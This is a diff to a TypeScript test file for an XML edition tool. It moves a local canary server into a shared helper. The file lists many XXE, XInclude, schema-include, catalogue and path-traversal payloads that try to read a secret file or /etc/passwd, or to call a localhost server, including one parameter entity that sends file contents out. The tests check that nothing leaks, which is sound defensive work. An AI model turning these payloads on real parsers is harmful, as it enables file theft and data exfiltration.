@@ -1,9 +1,7 @@
 import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync } from 'node:fs';
-import { createServer, type Server } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { pathToFileURL } from 'node:url';
-import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { describe, expect, test } from 'vitest';
 import { parse } from 'parse5';
 import { runInProcess } from '../harness/in-process.ts';
 import { tei } from '../harness/letters.ts';
@@ -12,13 +10,13 @@ import { octavoMeasured } from '../harness/octavo.ts';
 import { newFolder } from '../harness/scratch.ts';
 import { para, run, wordFile } from '../import/docx-file.ts';
 import { startEditor } from '../lsp/editor.ts';
+import { outsideWorld, secret } from './outside-world.ts';
 
 /**
  * Editions, schemas, templates and texts of strangers try to read files, to call out, to eat memory and to put code into what is built. A file with a
  * secret, a server that counts its calls and a limit of memory say whether they got anywhere.
  */
 
-const secret = 'THE-SECRET-OF-THE-HOUSE';
 const outside = newFolder({
   'secret.txt': secret,
   'secret.xml': `<s>${secret}</s>`,
@@ -29,18 +27,7 @@ const outside = newFolder({
 const far = pathToFileURL(outside).href;
 const up = `../${outside.split('/').at(-1)!}`;
 
-let server: Server;
-let calls = 0;
-let web = '';
-beforeAll(async () => {
-  server = createServer((_, response) => {
-    calls++;
-    response.end(`<s>${secret}</s>`);
-  });
-  await new Promise<void>((done) => server.listen(0, 'localhost', done));
-  web = `http://localhost:${(server.address() as AddressInfo).port}`;
-});
-afterAll(() => server.close());
+const world = outsideWorld();
 
 type Files = Readonly<Record<string, string | Uint8Array>>;
 
@@ -56,21 +43,21 @@ const schema = (inside: string): Files => ({ 'a.xml': named('s.rng'), 's.rng': r
 /** Files that want to read what is not theirs, or to call out. */
 const readers = (): Readonly<Record<string, Files>> => ({
   'an external entity': { 'a.xml': typed(`[<!ENTITY x SYSTEM "${far}/secret.txt">]`) },
-  'an external entity of the web': { 'a.xml': typed(`[<!ENTITY x SYSTEM "${web}/x">]`) },
+  'an external entity of the web': { 'a.xml': typed(`[<!ENTITY x SYSTEM "${world.web}/x">]`) },
   'an external entity by a relative path': { 'a.xml': typed(`[<!ENTITY x SYSTEM "${up}/secret.txt">]`) },
   'an external entity with a public name': { 'a.xml': typed(`[<!ENTITY x PUBLIC "p" "${far}/secret.txt">]`) },
   'a parameter entity': { 'a.xml': typed(`[<!ENTITY % p SYSTEM "${far}/secret.dtd"> %p;]`, '<p>&s;</p>') },
   'a parameter entity that calls out': {
     'a.xml': typed(
-      `[<!ENTITY % f SYSTEM "${far}/secret.txt"><!ENTITY % e "<!ENTITY &#37; c SYSTEM '${web}/?%f;'>"> %e; %c;]`,
+      `[<!ENTITY % f SYSTEM "${far}/secret.txt"><!ENTITY % e "<!ENTITY &#37; c SYSTEM '${world.web}/?%f;'>"> %e; %c;]`,
     ),
   },
-  'an external subset': { 'a.xml': typed(`SYSTEM "${web}/x.dtd"`, '<p>&s;</p>') },
+  'an external subset': { 'a.xml': typed(`SYSTEM "${world.web}/x.dtd"`, '<p>&s;</p>') },
   'an external subset of the disk': { 'a.xml': typed(`SYSTEM "${far}/secret.dtd"`, '<p>&s;</p>') },
   'an entity in an attribute': { 'a.xml': typed(`[<!ENTITY x SYSTEM "${far}/secret.txt">]`, '<p n="&x;">a</p>') },
   'an unparsed entity': {
     'a.xml': typed(
-      `[<!NOTATION n SYSTEM "${web}/n"><!ENTITY x SYSTEM "${far}/secret.png" NDATA n>]`,
+      `[<!NOTATION n SYSTEM "${world.web}/n"><!ENTITY x SYSTEM "${far}/secret.png" NDATA n>]`,
       '<graphic entity="x"/>',
     ),
   },
@@ -86,14 +73,14 @@ const readers = (): Readonly<Record<string, Files>> => ({
     'a.xml': letter('<p><include xmlns="http://www.w3.org/2001/XInclude" parse="text" href="/etc/passwd"/></p>'),
   },
   'XInclude of the web': {
-    'a.xml': letter(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${web}/x.xml"/>`),
+    'a.xml': letter(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${world.web}/x.xml"/>`),
   },
   'XInclude by a relative path': {
     'a.xml': letter(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${up}/secret.xml"/>`),
   },
-  'a stylesheet': { 'a.xml': before(`<?xml-stylesheet type="text/xsl" href="${web}/x.xsl"?>`) },
-  'a base address': { 'a.xml': letter(`<p xml:base="${web}/"><graphic url="a.png"/></p>`) },
-  'a schema of the web': { 'a.xml': named(`${web}/s.rng`) },
+  'a stylesheet': { 'a.xml': before(`<?xml-stylesheet type="text/xsl" href="${world.web}/x.xsl"?>`) },
+  'a base address': { 'a.xml': letter(`<p xml:base="${world.web}/"><graphic url="a.png"/></p>`) },
+  'a schema of the web': { 'a.xml': named(`${world.web}/s.rng`) },
   'a schema of the disk': { 'a.xml': named(`${far}/secret.rng`) },
   'a schema by an absolute path': { 'a.xml': named(`${outside}/secret.rng`) },
   'a schema that is another file': {
@@ -102,10 +89,10 @@ const readers = (): Readonly<Record<string, Files>> => ({
   'a schema location': {
     'a.xml': letter('<p>a</p>').replace(
       '<TEI',
-      `<TEI xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.tei-c.org/ns/1.0 ${web}/x.xsd" xsi:noNamespaceSchemaLocation="${far}/secret.xml"`,
+      `<TEI xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.tei-c.org/ns/1.0 ${world.web}/x.xsd" xsi:noNamespaceSchemaLocation="${far}/secret.xml"`,
     ),
   },
-  'a schema that includes one of the web': schema(`<include href="${web}/s.rng"/>`),
+  'a schema that includes one of the web': schema(`<include href="${world.web}/s.rng"/>`),
   'a schema that includes one by an absolute path': schema(`<include href="${outside}/secret.xml"/>`),
   'a schema that includes another file': schema(`<include href="${up}/secret.xml"/>`),
   'a schema that includes another file with a fragment': schema(`<include href="${up}/secret.txt#x.rng"/>`),
@@ -113,16 +100,16 @@ const readers = (): Readonly<Record<string, Files>> => ({
   'a schema with an external reference by a relative path': schema(
     `<start><externalRef href="${up}/secret.xml"/></start>`,
   ),
-  'a schema with a base address': schema(`<start><externalRef xml:base="${web}/" href="x.rng"/></start>`),
+  'a schema with a base address': schema(`<start><externalRef xml:base="${world.web}/" href="x.rng"/></start>`),
   'a schema with an entity': {
     'a.xml': named('s.rng'),
     's.rng': `<!DOCTYPE grammar [<!ENTITY x SYSTEM "${far}/secret.txt">]>${rng(`<start><value>&x;</value></start>`)}`,
   },
-  'a datatype library of the web': schema(`<start><data type="x" datatypeLibrary="${web}/types"/></start>`),
+  'a datatype library of the web': schema(`<start><data type="x" datatypeLibrary="${world.web}/types"/></start>`),
   'a datatype library of the disk': schema(`<start><data type="secret" datatypeLibrary="${far}"/></start>`),
   'a compact schema that includes': {
     'a.xml': named('s.rnc'),
-    's.rnc': `include "${up}/secret.xml"\ninclude "${web}/x.rnc"`,
+    's.rnc': `include "${up}/secret.xml"\ninclude "${world.web}/x.rnc"`,
   },
   'a compact schema with an external reference': {
     'a.xml': named('s.rnc'),
@@ -130,11 +117,11 @@ const readers = (): Readonly<Record<string, Files>> => ({
   },
   'an XML Schema that imports': {
     'a.xml': named('s.xsd'),
-    's.xsd': `<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:import namespace="urn:x" schemaLocation="${web}/x.xsd"/><xs:include schemaLocation="${up}/secret.xml"/><xs:redefine schemaLocation="${far}/secret.xml"/><xs:element name="a"/></xs:schema>`,
+    's.xsd': `<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:import namespace="urn:x" schemaLocation="${world.web}/x.xsd"/><xs:include schemaLocation="${up}/secret.xml"/><xs:redefine schemaLocation="${far}/secret.xml"/><xs:element name="a"/></xs:schema>`,
   },
   'a catalogue': {
-    'a.xml': named(`${web}/s.rng`),
-    'catalog.xml': `<catalog xmlns="urn:oasis:names:tc:entity:xmlns:xml:catalog"><uri name="${web}/s.rng" uri="${up}/secret.rng"/><nextCatalog catalog="${web}/c.xml"/></catalog>`,
+    'a.xml': named(`${world.web}/s.rng`),
+    'catalog.xml': `<catalog xmlns="urn:oasis:names:tc:entity:xmlns:xml:catalog"><uri name="${world.web}/s.rng" uri="${up}/secret.rng"/><nextCatalog catalog="${world.web}/c.xml"/></catalog>`,
   },
   'images outside': {
     'a.xml': letter(
@@ -145,7 +132,7 @@ const readers = (): Readonly<Record<string, Files>> => ({
         `..\\..${outside}\\secret.png`,
         `${far}/secret.png`,
         `${outside}/secret.png`,
-        `${web}/x.png`,
+        `${world.web}/x.png`,
         `//localhost/x.png`,
         'x/../../secret.png',
       ]
@@ -191,14 +178,14 @@ describe('what wants to read what is not its own', () => {
       if (told.includes(secret) || told.includes('root:x:')) leaks.push(name);
     }
     expect(leaks).toEqual([]);
-    expect(calls).toBe(0);
+    expect(world.calls).toBe(0);
   });
 
   test('the canary sings where it is read', async () => {
     expect(await traces(newFolder({ 'a.xml': letter(`<p>${secret}</p>`) }))).toContain(secret);
-    await fetch(web);
-    expect(calls).toBe(1);
-    calls = 0;
+    await fetch(world.web);
+    expect(world.calls).toBe(1);
+    world.calls = 0;
   });
 
   test('gets nothing by a link: of a schema, of the output folder, of the proof', async () => {
@@ -245,7 +232,7 @@ describe('what wants to read what is not its own', () => {
     expect(await editor.leave()).toBe(0);
     expect(shown.length).toBeGreaterThan(8);
     expect(shown.join('\n')).not.toContain(secret);
-    expect(calls).toBe(0);
+    expect(world.calls).toBe(0);
   });
 });
 
